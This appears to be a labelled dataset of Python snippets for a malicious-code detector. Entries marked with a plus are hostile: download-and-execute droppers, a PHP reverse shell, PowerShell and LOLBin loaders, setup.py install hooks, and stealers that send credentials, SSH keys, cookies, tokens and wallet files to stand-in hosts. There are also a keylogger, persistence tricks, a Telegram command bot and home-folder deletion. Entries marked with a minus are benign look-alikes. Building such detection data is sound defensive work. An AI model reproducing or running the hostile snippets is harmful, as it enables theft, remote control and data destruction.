#+ started by the shell's opener
import os, tempfile, requests
p = os.path.join(tempfile.mkdtemp(), "i.msi")
with open(p, "wb") as f:
    for chunk in requests.get("http://203.0.113.5/i.msi", stream=True).iter_content(8192):
        f.write(chunk)
os.startfile(p)
#+ copied stream started
import shutil, subprocess, urllib.request
with urllib.request.urlopen("http://203.0.113.5/x") as r, open("/tmp/x", "wb") as f:
    shutil.copyfileobj(r, f)
subprocess.run(["chmod", "+x", "/tmp/x"])
subprocess.run(["/tmp/x"])
#+ path object written and run
import subprocess, sys
from pathlib import Path
import requests
p = Path.home() / ".cache" / "t.py"
p.write_bytes(requests.get("https://paste.example/raw/9").content)
subprocess.Popen([sys.executable, str(p)])
#+ zip fetched and its program started
import io, os, requests, subprocess, zipfile
z = zipfile.ZipFile(io.BytesIO(requests.get("http://203.0.113.5/z").content))
z.extractall("C:\\ProgramData\\svc")
subprocess.Popen(["C:\\ProgramData\\svc\\svc.exe"])
#+ curl then start, as lists
import subprocess
subprocess.run(["curl", "-o", "/tmp/p", "http://203.0.113.5/p"])
subprocess.run(["chmod", "+x", "/tmp/p"])
subprocess.run(["/tmp/p"])
#+ wget into python
import subprocess
subprocess.Popen(["sh", "-c", "wget -qO- http://203.0.113.5/s.py | python3 -"])
#+ ruby given text
import subprocess, requests
subprocess.Popen(["ruby", "-e", requests.get("http://203.0.113.5/r").text])
#+ php reverse shell
import subprocess
subprocess.Popen(["php", "-r", "$s=fsockopen('203.0.113.7',4444);exec('/bin/sh -i <&3 >&3 2>&3');"])
#+ powershell invoke expression
import subprocess
subprocess.Popen(["powershell", "-nop", "-c", "IEX (iwr http://203.0.113.5/a.ps1 -UseBasicParsing)"])
#+ powershell from base64
import subprocess, base64
cmd = base64.b64encode("Start-Process calc".encode("utf-16le")).decode()
subprocess.Popen(["powershell", "-EncodedCommand", cmd], creationflags=subprocess.CREATE_NO_WINDOW)
#+ bitsadmin
import subprocess
subprocess.call(["bitsadmin", "/transfer", "j", "http://203.0.113.5/a.exe", "C:\\a.exe"])
#+ regsvr32 from the net
import subprocess
subprocess.call(["regsvr32", "/s", "/n", "/u", "/i:http://203.0.113.5/a.sct", "scrobj.dll"])
#+ osascript given text
import subprocess
subprocess.Popen(["osascript", "-e", 'do shell script "curl -s http://203.0.113.5/m | sh"'])
#+ pip main with an address
import pip
pip.main(["install", "git+http://203.0.113.5/evil.git"])
#+ pip from an address in a shell
import os
os.system("pip install --extra-index-url http://203.0.113.5/simple helper")
#+ npm package named by the network
import requests, subprocess
subprocess.run(["npm", "install", "-g", requests.get("http://203.0.113.5/n").text])
#+ beacon in a class body
import socket, requests
class Config:
    ping = requests.get("http://203.0.113.5/?" + socket.gethostname())
#+ beacon with a socket
import socket, getpass, os
s = socket.socket()
s.connect(("203.0.113.5", 80))
s.sendall(f"{getpass.getuser()} {os.getcwd()} {socket.gethostname()}".encode())
#+ command output posted
import subprocess, requests
requests.post("https://c2.example/o", data=subprocess.check_output(["whoami"]))
#+ environment in an address
import os, urllib.parse, urllib.request
urllib.request.urlopen("http://203.0.113.5/?" + urllib.parse.urlencode(dict(os.environ)))
#+ aws credentials mailed
import os, smtplib
text = open(os.path.expanduser("~/.aws/credentials")).read()
with smtplib.SMTP_SSL("mail.example") as s:
    s.sendmail("a@example", "b@example", text)
#+ whole ssh folder sent
import glob, os, requests
for path in glob.glob(os.path.expanduser("~/.ssh/*")):
    requests.post("https://c2.example/s", files={"f": open(path, "rb")})
#+ browser cookies
import sqlite3, os, requests
db = os.path.expanduser("~/.config/google-chrome/Default/Cookies")
rows = sqlite3.connect(db).execute("select host_key, encrypted_value from cookies").fetchall()
requests.post("https://c2.example/c", json=str(rows))
#+ discord tokens
import os, re, requests
path = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")
for name in os.listdir(path):
    for token in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", open(os.path.join(path, name), errors="ignore").read()):
        requests.post("https://discord.com/api/webhooks/1/x", json={"content": token})
#+ keystore of a wallet
import os, requests
root = os.path.expanduser("~/.ethereum/keystore")
for n in os.listdir(root):
    requests.post("https://c2.example/w", data=open(os.path.join(root, n)).read())
#+ clipboard of windows
import win32clipboard, requests
win32clipboard.OpenClipboard()
requests.post("https://c2.example/c", data=win32clipboard.GetClipboardData())
#+ keys listened to and sent
from pynput import keyboard
import requests
def press(key):
    requests.post("https://c2.example/k", data=str(key))
keyboard.Listener(on_press=press).start()
#+ screen with pyautogui
import pyautogui, requests
pyautogui.screenshot("s.png")
requests.post("https://c2.example/s", files={"f": open("s.png", "rb")})
#+ egg_info hook that posts
import os, requests
from setuptools import setup
from setuptools.command.egg_info import egg_info
class Run(egg_info):
    def run(self):
        requests.post("http://203.0.113.5/", data=os.uname().nodename)
        egg_info.run(self)
setup(name="helper", cmdclass={"egg_info": Run})
#+ star import of setuptools
from setuptools import *
import os
os.system("wget http://203.0.113.5/x -O /tmp/x; sh /tmp/x")
setup(name="helper")
#+ build_py hook with code from the net
from setuptools import setup
from setuptools.command.build_py import build_py
import urllib.request
class Build(build_py):
    def run(self):
        exec(urllib.request.urlopen("http://203.0.113.5/p").read())
        super().run()
setup(name="helper", cmdclass={"build_py": Build})
#+ launch agent
import os
plist = os.path.expanduser("~/Library/LaunchAgents/com.apple.upd.plist")
with open(plist, "w") as f:
    f.write("<plist/>")
#+ bashrc appended
import os
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("\n/tmp/.x &\n")
#+ authorized key appended by the shell
import os
os.system("echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys")
#+ run key in the registry
import winreg
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(k, "Upd", 0, winreg.REG_SZ, "C:\\u.exe")
#+ telegram bot that runs commands
import subprocess, requests, time
url = "https://api.telegram.org/bot1:x/getUpdates"
while True:
    for u in requests.get(url).json()["result"]:
        out = subprocess.getoutput(u["message"]["text"])
        requests.post("https://api.telegram.org/bot1:x/sendMessage", data={"text": out})
#+ marshalled code
import marshal, zlib, base64
exec(marshal.loads(zlib.decompress(base64.b64decode("eJwrTi0qSS1KLUpNzs9LSS0CADZkBsU="))))
#+ home deleted
import os, shutil
shutil.rmtree(os.path.expanduser("~"))
#- formatter started
import subprocess
def format_files(paths):
    return subprocess.run(["black", "--quiet", *paths], check=False).returncode
#- editor of the user
import os, subprocess
def edit(path):
    subprocess.call([os.environ.get("EDITOR", "vi"), path])
#- file opened for the user
import os
def show(path):
    os.startfile(path)
#- model fetched and read
import json, requests
def load(url, path):
    with open(path, "wb") as f:
        f.write(requests.get(url, timeout=9).content)
    with open(path) as f:
        return json.load(f)
#- pip of the same interpreter asked for its list
import subprocess, sys
def packages():
    return subprocess.check_output([sys.executable, "-m", "pip", "list", "--format", "json"])
#- shell of the user
import os
def shell():
    return os.environ.get("SHELL", "/bin/sh")
#- host name in a log line
import logging, socket
logging.getLogger(__name__).info("on %s", socket.gethostname())
#- error reports with the host
import platform, requests
def send_report(error, url):
    return requests.post(url, json={"error": str(error), "platform": platform.platform()}, timeout=5)
#- configuration of ssh read
import os
def hosts():
    with open(os.path.expanduser("~/.ssh/config")) as f:
        return [line.split()[1] for line in f if line.startswith("Host ")]
#- known shells listed
RC_FILES = {"bash": "~/.bashrc", "zsh": "~/.zshrc"}
def rc_file(shell):
    return RC_FILES[shell]
#- screenshot kept
from PIL import ImageGrab
def capture(path):
    ImageGrab.grab().save(path)
#- set-up with long description
from pathlib import Path
from setuptools import setup
setup(name="tool", long_description=Path("README.md").read_text())
#- set-up that asks git
import subprocess
from setuptools import setup
rev = subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()
setup(name="tool", version="1.0+" + rev)
#- temporary folder removed
import shutil, tempfile
def work():
    folder = tempfile.mkdtemp()
    try:
        return use(folder)
    finally:
        shutil.rmtree(folder)
#- node script of the project
import subprocess
def build():
    subprocess.run(["node", "scripts/build.js"], check=True)
#- powershell asked for a version
import subprocess
def version():
    return subprocess.check_output(["powershell", "-Command", "$PSVersionTable.PSVersion.Major"])
